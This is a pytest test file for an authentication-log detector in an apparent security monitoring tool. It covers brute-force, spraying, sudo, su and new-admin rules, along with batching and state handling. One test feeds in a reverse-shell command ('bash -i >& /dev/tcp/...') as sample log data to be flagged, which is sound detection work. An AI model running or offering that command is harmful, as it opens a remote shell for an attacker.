from unittest import mock

import numpy as np
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from soc_copilot.detection.auth import create, detector, rules
from soc_copilot.detection.auth.detector import FORGET_EVERY
from soc_copilot.detection.engine import check_detections
from soc_copilot.domain import columns as c
from soc_copilot.domain.columns import Action
from soc_copilot.domain.errors import DetectorError
from soc_copilot.domain.findings import Severity
from tests.unit.detection.auth.frames import (
    accepted,
    alerts,
    batches,
    event,
    failed,
    pam,
    run,
    sudo,
)

DAY_S = 86_400


def found(events, sizes=()):
    """Alerts of a detector that starts empty: {rule: alert}, one entity each."""
    return {key[0]: alert for key, alert in alerts(run(create({}), batches(events, sizes))).items()}


def test_ten_failures_within_five_minutes_are_brute_force():
    assert found([failed(20 * i) for i in range(9)]) == {}
    alert = found([failed(20 * i) for i in range(12)])[rules.BRUTE.id]
    assert alert["count"] == 12
    assert alert["summary"] == (
        "192.0.2.77 failed to log in 12 times on gw within 5 minutes, trying one account (root)."
    )
    assert found([failed(60 * i) for i in range(30)]) == {}


def test_many_accounts_with_few_tries_are_spraying_alone():
    alert = found([failed(5 * i, user=f"u{i % 20}") for i in range(40)])
    assert set(alert) == {rules.SPRAY.id}
    assert alert[rules.SPRAY.id]["severity"] == Severity.HIGH


def test_a_login_after_spraying_is_critical_and_says_so():
    events = [failed(5 * i, user=f"u{i}") for i in range(41)]
    alert = found([*events, accepted(230, user="deploy")])[rules.SUCCESS.id]
    assert alert["severity"] == Severity.CRITICAL
    assert alert["summary"] == (
        "192.0.2.77 tried 41 accounts on gw in 5 minutes and then logged in as deploy."
    )


def test_a_mistyped_password_before_a_login_is_nothing():
    assert found([failed(0, user="ann"), failed(3, user="ann"), accepted(9, user="ann")]) == {}


def test_failures_after_a_login_do_not_count_for_it():
    events = [accepted(0, user="ann"), *(failed(1 + i, user="ann") for i in range(8))]
    assert found(events) == {}


def test_many_addresses_at_one_account_are_distributed_guessing():
    alert = found([failed(10 * i, address=f"198.51.100.{i}") for i in range(12)])
    assert set(alert) == {rules.DISTRIBUTED.id}
    assert "12 addresses tried to log in as root" in alert[rules.DISTRIBUTED.id]["summary"]


def test_a_new_network_is_told_only_for_a_user_with_history():
    home = [accepted(i * DAY_S / 4, "10.0.0.5", "ann", "publickey") for i in range(9)]
    away = accepted(3 * DAY_S, "203.0.113.9", "ann", "publickey")
    alert = found([*home, away])
    assert set(alert) == {rules.ORIGIN.id}
    assert alert[rules.ORIGIN.id]["severity"] == Severity.MEDIUM
    assert found([*home[:3], away]) == {}
    assert found([away]) == {}
    assert found([*home, accepted(3 * DAY_S, "10.0.0.99", "ann", "publickey")]) == {}


def test_root_by_password_is_told_and_by_key_is_not():
    assert set(found([accepted(0)])) == {rules.ROOT.id}
    assert found([accepted(0, method="publickey")]) == {}


def test_sudo_refusals_and_wrong_passwords_are_told():
    assert set(found([sudo(0, "/bin/sh", outcome="failure")])) == {rules.SUDO_REFUSED.id}
    wrong = event(0, action=Action.SUDO_AUTH, outcome="failure", user="ann", process="sudo")
    assert found([{**wrong, "repeat": 3}]) == {}
    alert = found([{**wrong, "repeat": 3}, {**wrong, "at_s": 30, "repeat": 3}])
    assert alert[rules.SUDO_GUESS.id]["count"] == 6


def test_dangerous_commands_are_told_when_they_are_no_habit():
    tame = [sudo(i, "/usr/bin/apt update") for i in range(6)]
    assert found([sudo(0, "/usr/sbin/visudo")]) == {}
    assert set(found([*tame, sudo(9, "/usr/sbin/visudo")])) == {rules.SUDO_DANGER.id}
    twice = found([*tame, sudo(9, "/usr/sbin/visudo"), sudo(DAY_S, "/usr/sbin/visudo")])
    assert twice[rules.SUDO_DANGER.id]["count"] == 1
    shell = found([sudo(0, "/bin/bash -c bash -i >& /dev/tcp/203.0.113.1/9 0>&1")])
    assert shell[rules.SUDO_DANGER.id]["severity"] == Severity.HIGH


def test_a_new_account_made_administrator_is_graver_than_an_old_one():
    made = event(0, action=Action.USER_ADDED, outcome="success", user="bob", process="useradd")
    put = event(
        60, action=Action.GROUP_CHANGED, outcome="success", user="bob", group="sudo",
        process="usermod",
    )  # fmt: skip
    assert found([made]) == {}
    twice = found([made, put, put], [2])
    assert set(twice) == {rules.NEW_ADMIN.id}
    assert twice[rules.NEW_ADMIN.id]["count"] == 1
    assert set(found([put])) == {rules.ADMIN.id}
    assert set(found([made, {**put, "at_s": 3_600}])) == {rules.ADMIN.id}
    assert found([made, {**put, "group": "video"}]) == {}


def test_repeated_su_failures_are_told():
    bad = event(0, action=Action.SU, outcome="failure", user="ann", process="su")
    alert = found([{**bad, "at_s": 10 * i} for i in range(6)])
    assert alert[rules.SU_GUESS.id]["count"] == 6


def test_one_attempt_in_three_lines_counts_once():
    events = []
    for i in range(12):
        events += [
            event(20 * i, action=Action.SSH_INVALID_USER, outcome="failure", user="x", pid=i),
            pam(20 * i, user=None, pid=i),
            failed(20 * i + 2, user="x", pid=i),
        ]
    assert found(events)[rules.BRUTE.id]["count"] == 12


def test_hosts_that_write_pam_lines_only_are_counted_by_them():
    assert found([pam(20 * i, pid=i) for i in range(12)])[rules.BRUTE.id]["count"] == 12


def test_a_repeated_line_counts_as_often_as_it_says():
    events = [failed(0, pid=1), failed(9, pid=1, repeat=11)]
    assert found(events)[rules.BRUTE.id]["count"] == 12


def test_keys_offered_one_after_the_other_are_no_failures():
    assert found([failed(i, method="publickey") for i in range(30)]) == {}


def test_a_flood_is_one_alert_with_a_count_and_a_small_state():
    (answer,) = run(create({}), batches([failed(i / 400) for i in range(20_000)]))
    (finding,) = answer.findings
    assert finding.count == 20_000
    assert len(finding.evidence) == 20
    assert len(answer.state) < 5_000


def test_an_attack_over_midnight_is_one_alert_each_day():
    half_day = DAY_S / 2
    answers = run(create({}), batches([failed(half_day - 60 + 5 * i) for i in range(24)]))
    check_detections(answers[0], "auth", 24)
    assert len({finding.day for finding in answers[0].findings}) == 2


def test_evidence_starts_with_the_lines_that_came_before_the_alert():
    answers = run(create({}), batches([failed(9 * i) for i in range(12)], [8]))
    (finding,) = answers[1].findings
    assert [line.event_id for line in finding.evidence][:3] == ["1-1-600", "1-1-700", "1-1-800"]
    line = finding.evidence[0]
    assert [line.raw[a:b] for a, b in line.highlights] == [
        "Failed password for root",
        "192.0.2.77",
    ] or [line.raw[a:b] for a, b in line.highlights] == [
        "Failed password for",
        "root",
        "192.0.2.77",
    ]


def test_batches_without_authentication_leave_the_state_alone():
    detector = create({})
    one = batches([event(i, action=Action.HTTP_REQUEST) for i in range(5)])[0]
    answer = detector.detect(one)
    assert answer.state is None
    assert np.isnan(answer.scores).all()


def test_columns_that_a_format_lacks_are_no_error():
    one = batches([failed(i) for i in range(12)])[0]
    for column in (c.PID, c.REPEAT, c.GROUP, c.SSH_METHOD, c.COMMAND, c.USER_TARGET, c.HOST):
        frame = one.frame.drop(column)
        answer = create({}).detect(type(one)(1, frame))
        assert {finding.rule for finding in answer.findings} == {rules.BRUTE.id}


def test_rollback_forgets_the_batch():
    detector = create({})
    first, second = batches([failed(9 * i) for i in range(12)], [8])
    detector.detect(first)
    detector.rollback()
    assert not detector.detect(second).findings
    detector.rollback()
    detector.detect(first)
    detector.commit()
    once = detector.detect(second)
    detector.rollback()
    assert detector.detect(second).findings == once.findings
    assert len(once.findings) == 1


@pytest.mark.parametrize("data", [b"", b"x", b"\x00" * 100])
def test_a_damaged_state_is_refused(data):
    with pytest.raises(DetectorError):
        create({}).restore(data)


ADDRESSES = st.sampled_from(["192.0.2.1", "192.0.2.1", "192.0.3.2", "2001:db8::1"])
USERS = st.sampled_from(["root", "ann", "ann", "ü", None])
LOGINS = st.builds(
    lambda make, address, user, pid, repeat: (
        make,
        {"address": address, "user": user, "pid": pid, "repeat": repeat},
    ),
    st.sampled_from([failed, failed, failed, pam, accepted]),
    ADDRESSES,
    USERS,
    st.integers(1, 4),
    st.sampled_from([None, None, 5]),
)
SPRAYS = st.builds(
    lambda user: (failed, {"address": "192.0.2.1", "user": user}), st.sampled_from("abcdefgh")
)
BOTS = st.builds(
    lambda last: (failed, {"address": f"198.51.100.{last}", "user": "root"}), st.integers(1, 40)
)
OTHERS = st.sampled_from(
    [
        (sudo, {"command": "/usr/sbin/visudo"}),
        (sudo, {"command": "/bin/ls"}),
        (sudo, {"command": "/bin/ls", "outcome": "failure"}),
        (event, {"action": Action.SU, "outcome": "failure", "user": "ann", "process": "su"}),
        (event, {"action": Action.USER_ADDED, "outcome": "success", "user": "bob"}),
        (event, {"action": Action.GROUP_CHANGED, "outcome": "success", "user": "bob",
                 "group": "sudo"}),
        (event, {"action": Action.SUDO_AUTH, "outcome": "failure", "user": "ann", "repeat": 3}),
        (event, {"action": Action.HTTP_REQUEST}),
    ]
)  # fmt: skip


@st.composite
def histories(draw):
    """Events a few seconds or minutes apart, some a few seconds late; clocks are set back, too."""
    now = float(draw(st.integers(43_000, 43_200)))  # around midnight
    events = []
    bursts = st.lists(st.tuples(LOGINS | SPRAYS | BOTS | OTHERS, st.integers(1, 6)), max_size=8)
    mixed = st.lists(st.tuples(LOGINS | SPRAYS | BOTS | OTHERS, st.just(1)), max_size=40)
    one_kind = st.lists(st.tuples(draw(st.sampled_from([SPRAYS, BOTS, LOGINS])), st.just(1)))
    for (make, fields), times in draw(bursts) + draw(one_kind) + draw(mixed):
        for _ in range(times):
            now += draw(st.sampled_from([0, 0, 1, 1, 2, 5, 40, 400, 30_000, -700, -3_600]))
            events.append(make(now - draw(st.sampled_from([0, 0, 0, 1, 3, 8])), **fields))
    assume(events)
    return events


@settings(max_examples=60, deadline=None)
@given(histories(), st.lists(st.integers(1, 20), max_size=12), st.integers(1, 40))
def test_batches_make_no_difference(events, sizes, forget_every):
    with mock.patch.object(detector, "FORGET_EVERY", forget_every):
        whole = run(create({}), batches(events))
        split = run(create({}), batches(events, sizes), restart=True)
    assert alerts(split) == alerts(whole)
    scores = np.concatenate([answer.scores for answer in split])
    np.testing.assert_allclose(scores, whole[0].scores, atol=1e-5)
    for answer in [*whole, *split]:
        check_detections(answer, "auth", len(answer.scores))


@pytest.mark.parametrize("n_first", [0, 40, 80, 90, 95, 99])
def test_a_clock_set_back_gives_the_same_alerts_whatever_the_batches(n_first):
    """Failures, an hour back, and a success at the old time: in one batch or in two."""
    events = [failed(3_000 + i) for i in range(20)]
    events += [failed(i) for i in range(180)]
    events += [accepted(3_030)]
    split = run(create({}), batches(events, [n_first, 100]), restart=True)
    assert alerts(split) == alerts(run(create({}), batches(events)))


def test_what_is_far_from_every_clock_is_forgotten_every_so_many_lines():
    late = [accepted(3_030)]
    events = [failed(3_000 + i) for i in range(20)]
    events += [failed(i % 60, address=f"192.0.2.{i % 200}") for i in range(FORGET_EVERY)]
    (*_, answer) = run(create({}), batches(events + late, [FORGET_EVERY // 2] * 2))
    assert rules.SUCCESS.id not in {finding.rule for finding in answer.findings}
    (answer,) = run(create({}), batches(events[:100] + late))
    assert rules.SUCCESS.id in {finding.rule for finding in answer.findings}
